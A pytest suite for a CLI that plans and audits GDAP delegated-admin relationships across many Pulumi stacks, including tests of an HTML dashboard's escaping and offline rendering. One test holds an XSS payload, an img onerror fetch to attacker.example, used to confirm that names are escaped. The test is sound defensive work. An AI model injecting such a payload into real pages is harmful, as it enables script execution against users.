"""dapctl fleet over generated fleets: every stack planned in one process (a broken stack reported, the others
planned), GDAP status of every customer with the relationships read once, and the static dashboard."""

from __future__ import annotations

import json
import re

import pytest

from emulator.worlds.fleet import generate_fleet
from tests.helpers import REPO, headless_chromium
from tests.support.cli import dapctl

RELS = "/graph/v1.0/tenantRelationships/delegatedAdminRelationships"


@pytest.fixture
def fleet(tmp_path):
    world = generate_fleet(40, seed=3)
    world.write_stacks(tmp_path, REPO / "Pulumi.yaml")
    return world, tmp_path


def test_every_stack_is_planned_in_one_process_and_a_broken_one_is_reported(fleet):
    world, project = fleet
    broken = project / "Pulumi.customer-00007.yaml"
    broken.write_text(broken.read_text().replace("delegation: gdap", "delegation: gdapp"))
    result = dapctl("fleet", "plan", "--project-dir", str(project), "--json")
    assert result.returncode == 2, result.stderr  # a config problem, reported; the others were planned
    stacks = {s["stack"]: s for s in json.loads(result.stdout)["stacks"]}
    assert set(stacks) == {c["name"] for c in world.customers}
    assert "customers[0].delegation" in stacks["customer-00007"]["problems"][0]
    planned = [s for name, s in stacks.items() if name != "customer-00007"]
    assert all(s["ok"] and s["customers"] == 1 and s["resources"] > 0 for s in planned)
    assert len({s["resources"] for s in planned}) == 1  # the same shape of customer: the same plan
    only = dapctl("fleet", "plan", "--project-dir", str(project), "--stacks", "customer-0001*", "--json")
    assert [s["stack"] for s in json.loads(only.stdout)["stacks"]] == [f"customer-{n:05d}" for n in range(10, 20)]


def test_status_reads_the_relationships_once_and_flags_what_needs_attention(fleet, emulator, tmp_path):
    world, project = fleet
    emulator.control.reset(world.scenario)
    dashboard = tmp_path / "fleet.html"
    result = dapctl(
        "fleet", "status", "--project-dir", str(project), "--json", "--html", str(dashboard), endpoint=emulator.url
    )
    assert result.returncode == 0, result.stderr
    rows = {r["name"]: r for r in json.loads(result.stdout)["rows"]}
    assert set(rows) == set(world.states)
    for name, state in world.states.items():
        expected = {"active": "active", "expiring": "expiring", "approvalPending": "approvalPending"}.get(
            state, "missing"
        )
        assert rows[name]["status"] == expected, name
        # Ending within 30 days without auto-extend, or no relationship at all, needs a person; a fresh request not.
        assert bool(rows[name]["attention"]) == (state in ("expiring", "missing")), (name, state)
    assert len(emulator.control.requests(RELS, "GET")) == 1  # 40 stacks, one read of the relationships
    html = dashboard.read_text()
    assert html.count("<tr class=") == 40 and "default-src 'none'" in html
    warned = dapctl("fleet", "status", "--project-dir", str(project), "--fail-on-warning", endpoint=emulator.url)
    assert warned.returncode == 3


def test_the_dashboard_escapes_every_name_and_loads_nothing(tmp_path):
    from dapctl.render.dashboard import render_dashboard

    evil = '<img src=x onerror="fetch(`https://attacker.example`)">'
    row = {
        "stack": "s",
        "customer": evil,
        "name": "s",
        "tenant": "t",
        "mode": "GDAP",
        "relationship": evil,
        "status": "active",
        "days_left": 3,
        "auto_extend": False,
        "subscriptions": 0,
        "attention": [evil],
        "notes": [],
    }
    html = render_dashboard([row])
    assert "<img" not in html and html.count("&lt;img src=x") == 3
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)  # nothing fetched from anywhere


def test_the_dashboard_of_a_thousand_customers_renders_in_a_real_browser(tmp_path):
    """Headless Chromium loads the page offline, runs its script (the row counter) and shows every row."""
    from dapctl.render.dashboard import render_dashboard

    rows = [
        {
            "stack": f"customer-{n:04d}",
            "customer": f"Customer {n} <Ltd>",
            "name": f"customer-{n:04d}",
            "tenant": f"00000000-0000-4000-8000-{n:012d}",
            "mode": "GDAP",
            "relationship": f"customer-{n:04d}-gdap",
            "status": "expiring" if n % 10 == 0 else "active",
            "days_left": n % 700,
            "auto_extend": n % 2 == 0,
            "subscriptions": n % 3,
            "attention": ["expires soon"] if n % 10 == 0 else [],
            "notes": [],
        }
        for n in range(1000)
    ]
    page = tmp_path / "fleet.html"
    page.write_text(render_dashboard(rows), encoding="utf-8")
    dom = headless_chromium(page, tmp_path / "profile", "--dump-dom")
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert '<span id="shown">1000 shown</span>' in dom.stdout  # the script ran over every row
    assert dom.stdout.count("<tr class=") == 1000 and "Customer 7 &lt;Ltd&gt;" in dom.stdout
    shot = tmp_path / "fleet.png"
    taken = headless_chromium(page, tmp_path / "profile", f"--screenshot={shot}", "--window-size=1400,1000")
    assert taken.returncode == 0, taken.stderr[-2000:]
    assert shot.stat().st_size > 10_000  # a rendered page, kept with the test's files


def test_fleet_drift_finds_what_the_per_stack_command_finds(emulator, tmp_path):
    emulator.control.load_scenario(REPO / "emulator" / "worlds" / "scenarios" / "dev.yaml")
    for name in ("Pulumi.yaml", "Pulumi.dev.yaml"):
        (tmp_path / name).write_text((REPO / name).read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / "Pulumi.dev-copy.yaml").write_text((REPO / "Pulumi.dev.yaml").read_text(encoding="utf-8"))
    single = dapctl("drift", "--stack", "dev", "--project-dir", str(tmp_path), "-f", "json", endpoint=emulator.url)
    expected = sorted(json.dumps(i, sort_keys=True) for i in json.loads(single.stdout)["drift"])
    assert expected, single.stderr  # the dev scenario has drift (a hand-made grant, a missing delegation)
    fleet = dapctl("fleet", "drift", "--project-dir", str(tmp_path), "--json", endpoint=emulator.url)
    assert fleet.returncode == 3, fleet.stderr
    stacks = json.loads(fleet.stdout)["stacks"]
    assert set(stacks) == {"dev", "dev-copy"}
    for items in stacks.values():
        assert sorted(json.dumps(i, sort_keys=True) for i in items) == expected


def _json_values():
    from hypothesis import strategies as st

    scalars = st.none() | st.booleans() | st.integers() | st.text(max_size=8)
    return st.recursive(
        scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    )


def test_the_streamed_json_document_is_the_text_json_dumps_gives():
    """Rows written one by one make the same document as ``json.dumps(document, indent=2)`` (the contract)."""
    import io

    from hypothesis import given
    from hypothesis import strategies as st

    from dapctl.render.fleet import JsonDocument

    @given(st.dictionaries(st.text(max_size=6), _json_values(), max_size=4), st.lists(_json_values(), max_size=4))
    def check(stacks, rows):
        out = io.StringIO()
        document = JsonDocument(out, schemaVersion=1)
        members = document.object("stacks")
        for key, value in stacks.items():
            members.add(key, value)
        members.close()
        array = document.array("rows")
        for row in rows:
            array.add(row)
        array.close()
        document.close(configProblems={"s": ["a problem"]})
        expected = {"schemaVersion": 1, "stacks": stacks, "rows": rows, "configProblems": {"s": ["a problem"]}}
        assert out.getvalue() == json.dumps(expected, indent=2) + "\n"

    check()
